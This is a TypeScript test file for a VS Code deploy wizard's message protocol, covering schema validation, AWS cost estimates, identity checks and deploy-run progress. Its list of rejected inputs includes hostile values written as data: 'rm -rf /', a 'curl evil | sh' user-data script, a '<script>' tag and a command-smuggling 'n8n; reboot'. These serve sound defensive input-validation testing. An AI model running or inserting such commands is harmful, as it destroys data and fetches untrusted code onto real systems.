import assert from 'node:assert/strict';
import { GeuseError } from '../../src/engine/errors';
import { CATALOGUE } from '../../src/engine/health/catalogue';
import { stackConfigSchema, TIERS } from '../../src/engine/stack/config';
import { checkMessage, MAX_MESSAGE_CHARS } from '../../src/protocol/receiver';
import { hostToWizardSchema, WIZARD_TIERS, wizardPanelStateSchema, wizardToHostSchema, type WizardToHost } from '../../src/protocol/wizard';
import { defaultDraft, draftInput, instanceChoices, placementChoices, vpcChoices } from '../../src/vscode/wizard/draft';
import { draftToConfig } from '../../src/vscode/wizard/model';
import { reviewOf } from '../../src/vscode/wizard/review';
import { estimateMonthly } from '../../src/engine/cost/estimate';
import { applyEvent, finishRun, startRun } from '../../src/vscode/wizard/run-model';
import { PLACEMENTS, samplePlan, TYPES, VPCS } from '../webview/wizard-fixtures';

const draft = { ...defaultDraft({ tier: 'dev', region: 'us-east-1', instanceType: 't3.xlarge', market: 'spot' }), name: 'demo' };

describe('deploy wizard protocol and host-side shapes', () => {
  it('spells out exactly the engine\'s tiers', () => {
    assert.deepEqual([...WIZARD_TIERS], [...TIERS]);
  });

  it('a default draft is what the engine parses to its own defaults', () => {
    const result = draftToConfig(draftInput(draft), { existingNames: new Set() });
    assert.ok('config' in result);
    assert.deepEqual(result.config, stackConfigSchema.parse({ name: 'demo' }));
  });

  it('accepts every request the webview may send', () => {
    const valid: WizardToHost[] = [
      { type: 'ready' }, { type: 'check', id: 1, step: 'basics', draft: { ...draft, name: 'Bad_Name' } }, { type: 'discover', id: 2, region: 'eu-west-1', profile: 'work' },
      { type: 'instanceTypes', id: 3, region: 'us-east-1', tier: 'gpu' }, { type: 'plan', id: 4, draft }, { type: 'save', id: 5, draft }, { type: 'deploy', id: 6, draft },
      { type: 'cancel', id: 7 }, { type: 'deleteCreated', id: 8 }, { type: 'open', id: 9, service: 'n8n' },
      { type: 'identity', id: 10, region: 'us-east-1', profile: 'work' }, { type: 'fix', id: 11, fix: 'Choose AWS Profile' }, { type: 'estimates', id: 12, draft },
      { type: 'showInStacks', id: 13 }, { type: 'another', id: 14 }, { type: 'close', id: 15 },
    ];
    for (const message of valid) assert.deepEqual(checkMessage(wizardToHostSchema, message), { ok: true, message });
  });

  const hostile: [string, unknown][] = [
    ['unknown type', { type: 'exec', id: 1, command: 'rm -rf /' }],
    ['deploy without id', { type: 'deploy', draft }],
    ['draft with an extra key', { type: 'deploy', id: 1, draft: { ...draft, userData: '#!/bin/sh\ncurl evil | sh' } }],
    ['tier not in the engine', { type: 'check', id: 1, step: 'basics', draft: { ...draft, tier: '<script>' } }],
    ['step not in the wizard', { type: 'check', id: 1, step: 'destroy', draft }],
    ['oversized name', { type: 'check', id: 1, step: 'basics', draft: { ...draft, name: 'x'.repeat(65) } }],
    ['service not in the catalogue', { type: 'open', id: 1, service: 'n8n; reboot' }],
    ['too many models', { type: 'plan', id: 1, draft: { ...draft, ollamaModels: Array.from({ length: 17 }, (_, i) => `m${i}`) } }],
    ['oversized payload', { type: 'cancel', id: 1, padding: 'x'.repeat(MAX_MESSAGE_CHARS) }],
    ['not an object', 'deploy'],
    ['a fix the host does not offer', { type: 'fix', id: 1, fix: 'rm -rf /' }],
    ['the old name of Delete What Was Created', { type: 'rollback', id: 1 }],
  ];
  for (const [what, message] of hostile) {
    it(`rejects ${what}, without echoing it`, () => {
      const checked = checkMessage(wizardToHostSchema, message);
      assert.equal(checked.ok, false);
      if (!checked.ok) assert.doesNotMatch(checked.reason, /<script|rm -rf|reboot|curl/);
    });
  }

  it('what the host sends is valid by the protocol: networks, types with estimated prices, the review, progress', () => {
    assert.ok(hostToWizardSchema.safeParse({ type: 'networks', region: 'us-east-1', vpcs: vpcChoices(VPCS) }).success);
    const types = placementChoices(PLACEMENTS);
    assert.deepEqual(types.find((t) => t.type === 't3.xlarge'), {
      type: 't3.xlarge', vcpus: 4, memoryGiB: 16, gpus: 0, zones: ['us-east-1a', 'us-east-1b', 'us-east-1c'],
      onDemand: { usd: 0.1664, source: { kind: 'live', label: 'live' } }, spot: { usd: 0.0499, zone: 'us-east-1b', source: { kind: 'live', label: 'live' } },
      savingsPercent: 70, recommended: { market: 'spot', why: 'spot saves 70% versus on-demand' },
    });
    assert.deepEqual(types.find((t) => t.type === 'm7i.xlarge')?.onDemand?.source, { kind: 'estimated', label: 'estimated: us-east-1 list price from the bundled table (AccessDeniedException)' });
    assert.deepEqual(instanceChoices(TYPES).find((t) => t.type === 't3.xlarge')?.onDemand, undefined, 'sizes alone carry no price');
    assert.ok(hostToWizardSchema.safeParse({ type: 'instanceTypes', region: 'us-east-1', tier: 'dev', types }).success);
    const plan = samplePlan('demo');
    const review = reviewOf(plan, estimateMonthly(plan.config, { usdPerHour: 0.1664, source: { kind: 'estimated', reason: 'bundled' } }));
    assert.ok(hostToWizardSchema.safeParse({ type: 'plan', review }).success);
    // t3.xlarge 0.1664 × 730 = 121.47, 50 GiB × 0.08 = 4.00, 20 GB EFS (assumed) × 0.3 = 6.00, IPv4 0.005 × 730 = 3.65, data out 0, backups 20 GB × (1 + 0.05 × 13) × 0.05 = 1.65
    assert.deepEqual(review.monthly?.lines.map((l) => l.usd), [121.47, 4, 6, 3.65, 0, 1.65]);
    assert.equal(review.monthly?.totalUsd, 136.77);
    assert.equal(review.monthly?.source, 'estimated');
    assert.equal(reviewOf(plan).monthly, undefined, 'no price known: no second guess');
  });

  it('the account step\'s answers: an identity, or a problem with only the fixes the host can run', () => {
    assert.ok(hostToWizardSchema.safeParse({ type: 'identity', region: 'us-east-1', account: '123456789012', arn: 'arn:aws:sts::123456789012:user/moto' }).success);
    assert.ok(hostToWizardSchema.safeParse({ type: 'identity', region: 'us-east-1', profile: 'work', problem: { title: 'No AWS credentials found.', detail: 'Choose a profile.', fixes: ['Choose AWS Profile'] } }).success);
    assert.equal(hostToWizardSchema.safeParse({ type: 'identity', region: 'us-east-1', account: '12345' }).success, false, 'an account id has 12 digits');
    assert.equal(hostToWizardSchema.safeParse({ type: 'identity', region: 'us-east-1', problem: { title: 'x', detail: 'y', fixes: ['Run Script'] } }).success, false);
    assert.ok(hostToWizardSchema.safeParse({ type: 'account', profiles: ['work'], profile: 'work', chosen: true }).success);
    assert.ok(hostToWizardSchema.safeParse({ type: 'estimates', id: 3, tiers: [{ tier: 'dev', monthlyUsd: 135.12 }, { tier: 'gpu' }], basis: 'On-demand in us-east-1' }).success);
  });

  it('folds a run: rows from engine events, then done with the services, cancelled, or failed with the next step', () => {
    const now = new Date('2025-06-01T12:00:00Z');
    let run = startRun('deploy', 'demo', now);
    run = applyEvent(run, { type: 'step-started', step: 'efs', title: 'EFS' });
    run = applyEvent(run, { type: 'step-waiting', step: 'efs', waitingFor: 'EFS mount target in us-east-1b', elapsedMs: 3000 });
    assert.equal(run.rows[0]?.detail, 'waiting for EFS mount target in us-east-1b…');
    const done = finishRun(run, now, { services: [CATALOGUE.n8n, CATALOGUE.postgres] });
    assert.deepEqual([done.phase, done.services], ['done', [{ name: 'n8n', displayName: 'n8n', canOpen: true }, { name: 'postgres', displayName: 'PostgreSQL', canOpen: false }]]);
    assert.equal(finishRun(run, now, { error: new GeuseError({ code: 'CANCELLED', kind: 'cancelled', message: 'x', nextStep: 'y' }) }).phase, 'cancelled');
    const failed = finishRun(run, now, { error: new GeuseError({ code: 'AWS_CAPACITY', kind: 'capacity', message: 'No capacity.', nextStep: 'Try on-demand.' }) });
    assert.deepEqual([failed.phase, failed.error], ['failed', { message: 'No capacity.', nextStep: 'Try on-demand.' }]);
    assert.ok(hostToWizardSchema.safeParse({ type: 'progress', progress: failed }).success);
  });

  it('deleting what a failed first deploy created is its own operation; a panel saved under its old name "rollback" restores as it', () => {
    const now = new Date('2025-06-01T12:00:00Z');
    const deletion = finishRun(startRun('delete-created', 'demo', now), now, {});
    assert.ok(hostToWizardSchema.safeParse({ type: 'progress', progress: deletion }).success);
    assert.equal(hostToWizardSchema.safeParse({ type: 'progress', progress: { ...deletion, operation: 'rollback' } }).success, false, 'the host sends only the new name');
    const saved = wizardPanelStateSchema.parse({ version: 1, step: 'review', draft, progress: { ...deletion, operation: 'rollback' } });
    assert.equal(saved.progress?.operation, 'delete-created');
    assert.equal(wizardPanelStateSchema.safeParse({ version: 1, step: 'review', draft, progress: { ...deletion, operation: 'undo' } }).success, false);
  });
});
